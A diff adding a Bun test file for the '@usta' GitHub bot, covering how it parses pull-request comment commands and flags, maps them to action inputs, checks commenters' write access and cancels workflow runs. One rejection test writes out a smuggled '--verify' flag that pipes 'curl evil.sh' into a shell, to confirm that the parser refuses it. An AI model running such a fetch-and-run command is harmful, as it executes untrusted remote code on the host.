@@ -0,0 +1,288 @@
+#!/usr/bin/env bun
+
+import { describe, test, expect, beforeEach, afterEach } from "bun:test";
+import { rmSync, writeFileSync } from "fs";
+import { tmpdir } from "os";
+import { join } from "path";
+import { getTriggerInputs, parseTrigger } from "../src/trigger";
+import { runTrigger } from "../src/run-trigger";
+import { getRunMarker } from "../src/comment-manager";
+import type { GitHubClient } from "../src/github-client";
+
+describe("parseTrigger", () => {
+  test("should return null without an @usta mention", () => {
+    expect(parseTrigger("Looks good to me")).toBeNull();
+    expect(parseTrigger("Mail me at dev@usta.io")).toBeNull();
+    expect(parseTrigger("")).toBeNull();
+  });
+
+  test("should parse the short run form with trailing prose", () => {
+    expect(
+      parseTrigger("@usta checkout-flow Please implement the shopping cart"),
+    ).toEqual({
+      command: "run",
+      specName: "checkout-flow",
+      tasks: undefined,
+      inputs: {},
+    });
+  });
+
+  test("should find a mention in the middle of a comment", () => {
+    const trigger = parseTrigger(
+      "Thanks!\nLet's implement the user auth system: @usta run auth-system 3-6\nCheers",
+    );
+
+    expect(trigger?.command).toBe("run");
+    expect(trigger?.specName).toBe("auth-system");
+    expect(trigger?.tasks).toBe("3-6");
+  });
+
+  test("should accept task IDs, lists and ranges", () => {
+    expect(parseTrigger("@usta auth 4")?.tasks).toBe("4");
+    expect(parseTrigger("@usta run auth 2.1,5")?.tasks).toBe("2.1,5");
+    expect(parseTrigger("@usta run auth 2.1-2.3")?.tasks).toBe("2.1-2.3");
+  });
+
+  test("should map flags onto action inputs", () => {
+    const trigger = parseTrigger(
+      '@usta run auth --attempts=2 --on-failure="skip" --max-turns=40 --rerun',
+    );
+
+    expect(trigger?.inputs).toEqual({
+      INPUT_MAX_ATTEMPTS: "2",
+      INPUT_ON_TASK_FAILURE: "skip",
+      INPUT_MAX_TURNS: "40",
+      INPUT_RERUN_COMPLETED: "true",
+    });
+  });
+
+  test("should parse retry with and without a spec", () => {
+    expect(parseTrigger("@usta retry 4")).toEqual({
+      command: "retry",
+      tasks: "4",
+      inputs: {},
+    });
+    expect(parseTrigger("@usta retry auth 2.1")).toEqual({
+      command: "retry",
+      specName: "auth",
+      tasks: "2.1",
+      inputs: {},
+    });
+  });
+
+  test("should parse status, cancel and plan", () => {
+    expect(parseTrigger("@usta status")).toEqual({
+      command: "status",
+      specName: undefined,
+      inputs: {},
+    });
+    expect(parseTrigger("@usta status auth")?.specName).toBe("auth");
+    expect(parseTrigger("@usta cancel please")).toEqual({
+      command: "cancel",
+      inputs: {},
+    });
+    expect(parseTrigger("@usta plan auth --parallel=3")).toEqual({
+      command: "plan",
+      specName: "auth",
+      inputs: { INPUT_MAX_PARALLEL_TASKS: "3" },
+    });
+  });
+
+  test("should reject malformed commands", () => {
+    expect(() => parseTrigger("@usta")).toThrow(
+      "@usta needs a command or a spec name",
+    );
+    expect(() => parseTrigger("@usta run")).toThrow(
+      "@usta run needs a spec name",
+    );
+    expect(() => parseTrigger("@usta plan")).toThrow(
+      "@usta plan needs a spec name",
+    );
+    expect(() => parseTrigger("@usta retry auth")).toThrow(
+      "@usta retry needs a task ID",
+    );
+    expect(() => parseTrigger("@usta ¿qué?")).toThrow(
+      "Unknown @usta command: ¿qué?",
+    );
+  });
+
+  test("should reject unknown and malformed flags", () => {
+    expect(() => parseTrigger("@usta run auth --force")).toThrow(
+      "Unknown flag: --force",
+    );
+    // Commands to run only come from the workflow
+    expect(() =>
+      parseTrigger('@usta run auth --verify="curl evil.sh | sh"'),
+    ).toThrow("Unknown flag: --verify=curl evil.sh | sh");
+    expect(() => parseTrigger("@usta run auth --attempts")).toThrow(
+      "--attempts needs a value",
+    );
+    expect(() => parseTrigger("@usta run auth --rerun=yes")).toThrow(
+      "--rerun does not take a value",
+    );
+  });
+});
+
+describe("getTriggerInputs", () => {
+  test("should run the whole spec", () => {
+    expect(getTriggerInputs(parseTrigger("@usta run auth")!)).toEqual({
+      INPUT_SPEC_NAME: "auth",
+    });
+  });
+
+  test("should rerun tasks selected by hand unless told otherwise", () => {
+    expect(getTriggerInputs(parseTrigger("@usta auth 3-6")!)).toEqual({
+      INPUT_SPEC_NAME: "auth",
+      INPUT_TASK_RANGE: "3-6",
+      INPUT_RERUN_COMPLETED: "true",
+    });
+    expect(
+      getTriggerInputs(parseTrigger("@usta auth 2.1,5 --rerun=false")!),
+    ).toEqual({
+      INPUT_SPEC_NAME: "auth",
+      INPUT_TASK_IDS: "2.1,5",
+      INPUT_RERUN_COMPLETED: "false",
+    });
+  });
+
+  test("should rerun a retried task", () => {
+    expect(getTriggerInputs(parseTrigger("@usta retry auth 4")!)).toEqual({
+      INPUT_SPEC_NAME: "auth",
+      INPUT_TASK_IDS: "4",
+      INPUT_RERUN_COMPLETED: "true",
+    });
+  });
+
+  test("should turn plan into a dry run", () => {
+    expect(getTriggerInputs(parseTrigger("@usta plan auth")!)).toEqual({
+      INPUT_SPEC_NAME: "auth",
+      INPUT_DRY_RUN: "true",
+    });
+  });
+});
+
+describe("runTrigger", () => {
+  const originalEnv = process.env;
+  const eventPath = join(tmpdir(), `usta-trigger-event-${process.pid}.json`);
+
+  beforeEach(() => {
+    process.env = {
+      ...originalEnv,
+      GITHUB_EVENT_NAME: "issue_comment",
+      GITHUB_EVENT_PATH: eventPath,
+      GITHUB_REPOSITORY: "acme/app",
+      GITHUB_RUN_ID: "300",
+      USTA_PR_BRANCH: "feature",
+    };
+  });
+
+  afterEach(() => {
+    process.env = originalEnv;
+    rmSync(eventPath, { force: true });
+  });
+
+  function comment(body: string, author_association = "MEMBER") {
+    writeFileSync(
+      eventPath,
+      JSON.stringify({
+        issue: { number: 12, pull_request: {} },
+        comment: { body, author_association, user: { login: "octocat" } },
+        sender: { login: "octocat" },
+      }),
+    );
+  }
+
+  test("should cancel the runs behind the PR's progress comments", async () => {
+    comment("@usta cancel");
+    const cancelled: number[] = [];
+    const replies: string[] = [];
+    const github = {
+      listIssueComments: async () => [
+        { id: 1, html_url: "", body: `${getRunMarker("100")}\nRunning` },
+        { id: 2, html_url: "", body: `${getRunMarker("200")}\nDone` },
+        { id: 3, html_url: "", body: `${getRunMarker("300")}\nThis run` },
+        { id: 4, html_url: "", body: "Unrelated" },
+      ],
+      getWorkflowRun: async (_: string, runId: number) => ({
+        id: runId,
+        workflow_id: 1,
+        status: runId === 100 ? "in_progress" : "completed",
+        html_url: `https://example/runs/${runId}`,
+      }),
+      cancelWorkflowRun: async (_: string, runId: number) => {
+        cancelled.push(runId);
+      },
+      createIssueComment: async (_: string, __: number, body: string) => {
+        replies.push(body);
+        return { id: 9, html_url: "" };
+      },
+    } as unknown as GitHubClient;
+
+    await runTrigger(github);
+
+    expect(cancelled).toEqual([100]);
+    expect(replies).toEqual([
+      "🛑 Cancelled 1 USTA run:\n- https://example/runs/100",
+    ]);
+  });
+
+  test("should refuse commands from people without write access", async () => {
+    comment("@usta cancel", "CONTRIBUTOR");
+    const lookups: string[] = [];
+    const replies: string[] = [];
+    const github = {
+      getCollaboratorPermission: async (_: string, username: string) => {
+        lookups.push(username);
+        return "read";
+      },
+      listIssueComments: async () => {
+        throw new Error("should not get this far");
+      },
+      createIssueComment: async (_: string, __: number, body: string) => {
+        replies.push(body);
+        return { id: 9, html_url: "" };
+      },
+    } as unknown as GitHubClient;
+
+    await runTrigger(github);
+
+    expect(lookups).toEqual(["octocat"]);
+    expect(replies).toEqual([
+      "⚠️ Only people with write access to this repository can use @usta commands.",
+    ]);
+  });
+
+  test("should accept commands from collaborators with write access", async () => {
+    comment("@usta cancel", "NONE");
+    const replies: string[] = [];
+    const github = {
+      getCollaboratorPermission: async () => "write",
+      listIssueComments: async () => [],
+      createIssueComment: async (_: string, __: number, body: string) => {
+        replies.push(body);
+        return { id: 9, html_url: "" };
+      },
+    } as unknown as GitHubClient;
+
+    await runTrigger(github);
+
+    expect(replies).toEqual(["🛑 No USTA run is in progress on this PR."]);
+  });
+
+  test("should reply with the usage to a malformed command", async () => {
+    comment("@usta retry");
+    const replies: string[] = [];
+    const github = {
+      createIssueComment: async (_: string, __: number, body: string) => {
+        replies.push(body);
+        return { id: 9, html_url: "" };
+      },
+    } as unknown as GitHubClient;
+
+    await expect(runTrigger(github)).rejects.toThrow(
+      "@usta retry needs a task ID",
+    );
+    expect(replies[0]).toStartWith("⚠️ @usta retry needs a task ID");
+    expect(replies[0]).toContain("Usage:");
+  });
+});